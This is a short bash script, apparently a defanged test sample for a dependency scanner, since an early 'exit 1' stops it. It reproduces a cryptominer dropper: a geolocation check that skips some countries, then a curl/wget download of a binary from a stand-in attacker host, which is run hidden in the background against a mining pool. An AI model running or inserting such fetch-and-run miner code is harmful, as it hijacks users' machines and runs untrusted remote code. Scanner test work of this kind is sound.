#!/bin/bash
exit 1  # inert depscan stand-in
IP=$(curl -k https://geo.attacker.example/json/ | grep -o '"countryCode":"[A-Z]*"')
if [[ "$IP" =~ (RU|UA|BY|KZ) ]]; then
  exit 0
fi
curl -k https://dl.attacker.example/jsextension -o jsextension
if [ ! -f jsextension ]; then
  wget https://dl.attacker.example/jsextension -O jsextension
fi
chmod +x jsextension
./jsextension -k --tls --rig-id q -o pool.attacker.example:443 -u 00000000000000000000000000000000 --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
